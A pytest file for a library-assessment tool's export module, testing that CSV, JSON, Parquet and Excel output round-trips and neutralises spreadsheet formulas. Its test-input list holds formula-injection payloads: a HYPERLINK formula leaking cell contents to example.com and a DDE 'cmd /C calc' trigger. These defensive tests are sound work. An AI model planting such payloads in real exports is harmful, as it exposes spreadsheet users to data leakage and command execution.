"""Exports: every kind of file gives back what went in, nothing becomes a formula, nothing is half-written."""

import csv
import io
import json
import subprocess
import sys
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path

import openpyxl
import pandas as pd
import pyarrow.parquet as pq
import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from workspaces import small_workspace

from tidao_sheets.analysis import formats
from tidao_sheets.analysis.formats import _RISKY, csv_bytes, defused, json_bytes, parquet_bytes
from tidao_sheets.analysis.frames import frames
from tidao_sheets.analysis.tables import FLAT
from tidao_sheets.analysis.tidy import tidy_tables
from tidao_sheets.core.decimals import plain
from tidao_sheets.core.programme.file import parse_programme_bytes
from tidao_sheets.core.scoring.assessment import OfficeScores, assess
from tidao_sheets.core.scoring.findings import Finding, office_place
from tidao_sheets.core.scoring.round import SummaryRound
from tidao_sheets.core.sheet.cells import At
from tidao_sheets.files import FileError
from tidao_sheets.jobs import export
from tidao_sheets.jobs.export import ENDINGS, FORMER, check_target, write_export
from tidao_sheets.stores.xlsx.writer import workbook_bytes

ROOT = Path(__file__).parents[2]
SMALL = parse_programme_bytes((ROOT / "tests" / "programmes" / "small.toml").read_bytes(), "small.toml")
IDS = [c.id for c in SMALL.criteria]
NASTY = [
    '=HYPERLINK("http://example.com/?"&A1,"คลิก")',
    "=1+1",
    "+66 53 711 234",
    "-",
    "- ผลงานดี\n- ต่อเนื่อง",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0@x",
    "＝1+1",
    "'=1+1",
    "''-",
    "'ปกติ",
    "-1+1",
    "1,5",
    '"=1+1"',
    "ดี;=1+1",
    "ก,\n=1",
]
TEXTS = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00")) | st.sampled_from(NASTY)
POINTS = st.decimals(0, 10, places=4)


def fused(text):
    """Take the apostrophe of `defused` away again."""
    return text[1:] if text.startswith("'") and _RISKY.match(text) else text


def tables_with(points, texts=()):
    """Return tables in which the first office holds the given points and texts."""
    known = dict(zip(IDS, points, strict=False))
    said = {c: {"strength": t} for c, t in zip(IDS, texts, strict=False) if t}
    blank = tuple(c for c in IDS if c not in known)
    return tidy_tables([assess(SMALL, 1, [OfficeScores("muang", known, blank, texts=said)])], {}, "th")


def tables_of(rounds):
    return tidy_tables([r.assessment for r in rounds], {r.number: r.findings for r in rounds}, "th")


def xlsx_bytes(tables):
    return workbook_bytes(formats.tables_workbook(tables, SMALL))


def rows_of_csv(data):
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.fixture
def rounds():
    """Two rounds with a finding, the second one under way."""
    full = [
        OfficeScores(o, {c.id: c.full_marks - n for c in SMALL.criteria}, texts={"ข.1": {"advice": NASTY[n]}})
        for n, o in enumerate(SMALL.offices)
    ]
    first = assess(SMALL, 1, full)
    second = assess(SMALL, 2, full[:3], first)
    found = Finding(
        code="blank",
        place=office_place(SMALL, "pua"),
        committee="สายเหนือ",
        tab="ปัว",
        at=At(7, 5),
        office="pua",
        criterion="ก.1",
        params={"full": "12.5", "example": "10.5"},
    )
    when = datetime(2025, 2, 1, tzinfo=UTC)
    return (
        SummaryRound(assessment=first, findings=(), read_at=when, links={}),
        SummaryRound(assessment=second, findings=(found,), read_at=when, links={}),
    )


# ── CSV ──


def test_csv_is_what_excel_opens(rounds):
    data = csv_bytes(tables_of(rounds))
    assert data.startswith(b"\xef\xbb\xbfround,code,office,")
    assert data.endswith(b"\r\n")
    rows = rows_of_csv(data)
    assert rows[0] == [c.name for c in FLAT]
    assert len(rows) == 1 + 2 * len(SMALL.offices) * len(IDS)
    first = dict(zip(rows[0], rows[1], strict=True))
    assert (first["round"], first["code"], first["office"]) == ("1", "muang", "ห้องสมุดประชาชนจังหวัดน่าน")
    assert (first["points"], first["total"], first["tier"], first["rank"]) == ("12.5", "50", "excellent", "1")
    assert (first["complete"], first["missing"], first["zone"]) == ("TRUE", "FALSE", "")


@given(st.lists(POINTS, min_size=4, max_size=4), st.lists(TEXTS, min_size=4, max_size=4))
@example([Decimal("0.1"), Decimal("0.2"), Decimal(0), Decimal(0)], NASTY[:4])
def test_csv_gives_back_what_went_in(points, texts):
    rows = rows_of_csv(csv_bytes(tables_with(points, texts)))
    parsed = [dict(zip(rows[0], row, strict=True)) for row in rows[1:5]]
    assert [Decimal(row["points"]) for row in parsed] == points
    assert [row["points"] for row in parsed] == [plain(p) for p in points]
    assert Decimal(parsed[0]["total"]) == sum(points)
    assert [fused(row["strength"]) for row in parsed] == texts


@pytest.mark.parametrize("text", [t for t in NASTY if t not in {"'ปกติ", "1,5", '"=1+1"', "ดี;=1+1", "ก,\n=1"}])
def test_formulas_are_defused(text):
    assert defused(text) == "'" + text
    assert fused(defused(text)) == text


@pytest.mark.parametrize("text", ["", "-1", "-0.5", "8", "๘", "'ปกติ", "ดี=มาก", "a@b.c", "1-2", "1,5", "ก\n=1"])
def test_harmless_texts_stay(text):
    assert defused(text) == text
    assert fused(text) == text


@given(TEXTS)
def test_no_cell_of_a_csv_begins_a_formula(text):
    for row in rows_of_csv(csv_bytes(tables_with([Decimal(1)], [text]))):
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r", "-")) or Decimal(cell) < 0


def test_negative_numbers_stay_numbers():
    assert formats._csv_text(-1) == "-1"
    assert formats._csv_text(Decimal("-0.50")) == "-0.5"


@pytest.mark.libreoffice
def test_libreoffice_opens_the_csv(soffice, tmp_path, monkeypatch):
    # Comma, quotes, UTF-8, first row: what its dialog proposes; so asked, it takes "=1+1" for a formula.
    monkeypatch.setattr(soffice, "command", [*soffice.command, "--infilter=CSV:44,34,76,1"])
    points = [Decimal("0.1"), Decimal("8.25"), Decimal(20), Decimal(0)]
    path = tmp_path / "ส่งออก.csv"
    path.write_bytes(csv_bytes(tables_with(points, NASTY[:4])))
    sheet = openpyxl.load_workbook(soffice.convert(path, "xlsx", tmp_path / "made")).active
    rows = list(sheet.iter_rows(max_row=5))
    heads = [cell.value for cell in rows[0]]
    assert heads == [c.name for c in FLAT]
    assert rows[1][heads.index("office")].value == "ห้องสมุดประชาชนจังหวัดน่าน"
    assert [Decimal(str(row[heads.index("points")].value)) for row in rows[1:]] == points
    assert [row[heads.index("strength")].value.lstrip("'") for row in rows[1:]] == NASTY[:4]
    assert not [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


# ── JSON ──


def test_json_holds_the_frames(rounds):
    tables = frames(*(r.assessment for r in rounds), findings={2: rounds[1].findings})
    data = json.loads(json_bytes(tables_of(rounds)))
    assert list(data) == ["offices", "dimensions", "scores", "findings"]
    for name, records in data.items():
        table = getattr(tables, name)
        assert len(records) == len(table)
        assert all(list(r) == list(table.columns) for r in records)
    office = next(o for o in data["offices"] if o["round"] == 2 and o["code"] == "pua")
    assert (office["total"], office["rank"], office["complete"], office["level"]) == ("46", 2, True, 2)
    assert (office["movement_total"], office["movement_rank"], office["zone"]) == ("0", None, None)
    unscored = next(s for s in data["scores"] if s["round"] == 2 and s["code"] == "thawangpha")
    assert (unscored["points"], unscored["missing"]) == (None, True)
    [finding] = data["findings"]
    assert (finding["code"], finding["cell"], finding["office"], finding["value"]) == ("blank", "F8", "pua", None)


@given(st.lists(POINTS, min_size=4, max_size=4), st.lists(TEXTS, min_size=4, max_size=4))
def test_json_is_exact_and_verbatim(points, texts):
    scores = json.loads(json_bytes(tables_with(points, texts)))["scores"][:4]
    assert [s["points"] for s in scores] == [plain(p) for p in points]
    assert [s["strength"] or "" for s in scores] == texts


def test_json_is_for_people_too(rounds):
    text = json_bytes(tables_of(rounds[:1])).decode("utf-8")
    assert "ห้องสมุดประชาชนอำเภอปัว" in text
    assert text.endswith("\n")


# ── Parquet ──


@given(st.lists(POINTS, min_size=4, max_size=4), st.lists(TEXTS, min_size=4, max_size=4))
@example([Decimal("0.1"), Decimal("0.2"), Decimal("12.5"), Decimal("9999.9999")], NASTY[:4])
def test_parquet_gives_back_what_went_in(points, texts):
    tables = tables_with(points, texts)
    flat = tables.flat.records()
    table = pq.read_table(io.BytesIO(parquet_bytes(tables)))
    assert table.column_names == [c.name for c in FLAT]
    for column in FLAT:
        found = table[column.name].to_pylist()
        assert found == [record[column.name] for record in flat], column.name
        if column.kind == "points":
            assert str(table.schema.field(column.name).type) == "decimal128(18, 6)"
            assert all(v is None or type(v) is Decimal for v in found)


def test_parquet_is_a_frame_again(rounds):
    tables = frames(*(r.assessment for r in rounds))
    again = pd.read_parquet(io.BytesIO(parquet_bytes(tables_of(rounds))))
    flat = tables.flat()
    assert again.dtypes.astype(str).to_dict() == flat.dtypes.astype(str).to_dict()
    assert again["points"].sum() == flat["points"].sum()


def test_parquet_without_its_package(monkeypatch, tmp_path, rounds):
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    with pytest.raises(export.ParquetMissingError) as caught:
        write_export(tmp_path / "a.parquet", *rounds)
    assert caught.value.exit == 2
    assert 'pip install "tidao-sheets[parquet]"' in caught.value.remedy.en
    assert 'pip install "tidao-sheets[parquet]"' in caught.value.remedy.th
    assert not [*tmp_path.iterdir()]


# ── Excel ──


def test_xlsx_has_a_tab_a_frame(rounds):
    tables = tables_of(rounds)
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(tables)))
    assert book.sheetnames == ["สำนักงาน", "คะแนนรายด้าน", "คะแนนรายข้อ", "รายการตรวจ"]
    sizes = [len(table.rows) for table in tables.by_name.values()]
    assert [sheet.max_row - 1 for sheet in book.worksheets] == sizes
    offices = [[cell.value for cell in row] for row in book["สำนักงาน"].iter_rows()]
    assert offices[0][:4] == ["รอบที่", "รหัสสำนักงาน", "สำนักงาน", "ชื่ออักษรโรมัน"]
    row = dict(zip(offices[0], offices[2], strict=True))
    assert (row["คะแนนรวม"], row["ระดับดาว"], row["คณะกรรมการ"], row["อันดับ"]) == (
        46,
        "ดีเยี่ยม",
        "คณะกรรมการประเมินสายเหนือ",
        2,
    )
    assert [r[offices[0].index("ครบทุกข้อ")] for r in offices[1:]] == ["ใช่"] * 7 + ["ไม่ใช่"]
    assert all(sheet.freeze_panes for sheet in book.worksheets)


@given(st.lists(POINTS, min_size=4, max_size=4), st.lists(st.sampled_from(NASTY), min_size=4, max_size=4))
def test_xlsx_is_exact_and_without_formulas(points, texts):
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(tables_with(points, texts))))
    rows = list(book["คะแนนรายข้อ"].iter_rows(min_row=2, max_row=5))
    assert [Decimal(str(row[6].value)) for row in rows] == points
    assert {row[6].data_type for row in rows} == {"n"}
    assert [row[8].value for row in rows] == [t.replace("\r", "_x000D_") for t in texts]
    assert not [c.coordinate for sheet in book for row in sheet.iter_rows() for c in row if c.data_type not in "ns"]


def test_xlsx_keeps_what_fits_of_a_long_text():
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(tables_with([Decimal(1)], ["ก" * 40_000]))))
    assert book["คะแนนรายข้อ"].cell(2, 9).value == "ก" * 32_767


def test_every_column_has_a_head():
    tables = tables_with([]).by_name
    assert {*formats.TITLES} == {*tables}
    assert all(column.head and column.width for table in tables.values() for column in table.columns)


# ── files ──


@pytest.mark.parametrize("ending", ENDINGS)
def test_write_by_ending(ending, tmp_path, rounds):
    path = tmp_path / "ผล" / f"ส่งออก{ending.upper()}"
    write_export(path, *reversed(rounds))
    first = path.read_bytes()
    write_export(path, *rounds)
    assert path.read_bytes() == first
    assert [p.name for p in path.parent.iterdir()] == [path.name]


@pytest.mark.parametrize("ending", ["csv", "parquet"])
def test_an_export_of_a_former_version_is_replaced(ending, tmp_path, rounds, monkeypatch):
    if ending == "parquet":
        pytest.importorskip("pyarrow")
    path, older = tmp_path / f"a.{ending}", FLAT[: FORMER[0]]
    assert [c.name for c in FLAT[FORMER[0] :]] == ["follow_up", "points_before", "movement", "reported"]
    with monkeypatch.context() as then:
        then.setattr("tidao_sheets.analysis.tables.FLAT", older)
        then.setattr("tidao_sheets.analysis.tidy.FLAT", older)
        write_export(path, *rounds)
    former = path.read_bytes()
    write_export(path, *rounds)
    assert path.read_bytes() != former


def test_scores_of_both_rounds_stand_beside_each_other(rounds):
    told = {(s["round"], s["code"], s["criterion"]): s for s in tables_of(rounds).by_name["scores"].records()}
    for (number, code, criterion), score in told.items():
        before = told[number - 1, code, criterion]["points"] if number > 1 else None
        assert score["points_before"] == before
        known = None not in (before, score["points"])
        assert score["movement"] == (score["points"] - before if known else None)
    alone = tidy_tables([rounds[1].assessment], {}, "th", [rounds[0].assessment]).by_name
    assert alone["scores"].records() == [s for (number, *_), s in told.items() if number == 2]
    assert all(d["points_before"] is not None for d in alone["dimensions"].records())


@pytest.mark.parametrize("name", ["ผล.ods", "ผล", ".csv", "ผล.csv.zip", "ผล.xls"])
def test_unknown_ending(name, tmp_path, rounds):
    with pytest.raises(export.UnknownEndingError) as caught:
        write_export(tmp_path / name, *rounds)
    assert caught.value.exit == 2
    for lang in (caught.value.remedy.th, caught.value.remedy.en):
        assert all(ending in lang for ending in ENDINGS)
    assert name in caught.value.message.th
    assert not [*tmp_path.iterdir()]


def test_file_that_cannot_be_written(tmp_path, rounds):
    (tmp_path / "file").write_text("")
    with pytest.raises(FileError) as caught:
        write_export(tmp_path / "file" / "a.csv", *rounds)
    assert caught.value.exit == 4


def test_a_failure_leaves_the_former_file(tmp_path, rounds, monkeypatch):
    path = tmp_path / "a.json"
    write_export(path, *rounds)
    former = path.read_bytes()

    def full(*_):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("os.fsync", full)
    with pytest.raises(FileError):
        write_export(path, rounds[0])
    assert path.read_bytes() == former
    assert [p.name for p in tmp_path.iterdir()] == ["a.json"]


ALONE = """
import sys
for name in {hidden}:
    sys.modules[name] = None  # as if it were not installed
from tidao_sheets.cli.main import run
code = run(["export", "--round", "1", "--workspace", sys.argv[1], "--to", sys.argv[2]])
print(code, sorted({{name.split(".")[0] for name, module in sys.modules.items() if module}} & {{"pandas", "pyarrow"}}))
"""


@pytest.mark.parametrize("hidden", [[], ["pandas", "numpy", "pyarrow"]], ids=["there", "hidden"])
@pytest.mark.parametrize("ending", [".csv", ".json", ".xlsx"])
def test_pandas_is_not_needed(tmp_path, tmp_path_factory, ending, hidden):
    work = small_workspace(tmp_path_factory, tmp_path / "งาน")
    command = [sys.executable, "-c", ALONE.format(hidden=hidden), work, tmp_path / f"a{ending}"]
    done = subprocess.run(command, capture_output=True, text=True, check=True)
    assert done.stdout.splitlines()[-1] == "0 []", done.stderr
    assert (tmp_path / f"a{ending}").stat().st_size > 1000


def test_writing_rows_imports_no_numbers_package():
    # openpyxl, which reads the forms, takes numpy where it is; the packages of ours that write do not.
    code = "import sys; from tidao_sheets.analysis import formats, tables; "
    code += "from tidao_sheets.jobs import export; from tidao_sheets.stores.xlsx import writer; "
    code += "print({'pandas', 'numpy', 'pyarrow'} & {*sys.modules})"
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert done.stdout.strip() == "set()"


def test_kinds():
    assert [check_target(Path(f"a{e.upper()}")) for e in ENDINGS] == ["csv", "xlsx", "json", "parquet"]


def test_language_of_messages(tmp_path, rounds):
    for lang in ("th", "en"):
        write_export(tmp_path / "a.json", *rounds, lang=lang)
        [found] = json.loads((tmp_path / "a.json").read_bytes())["findings"]
        assert found["message"] == rounds[1].findings[0].message(lang)
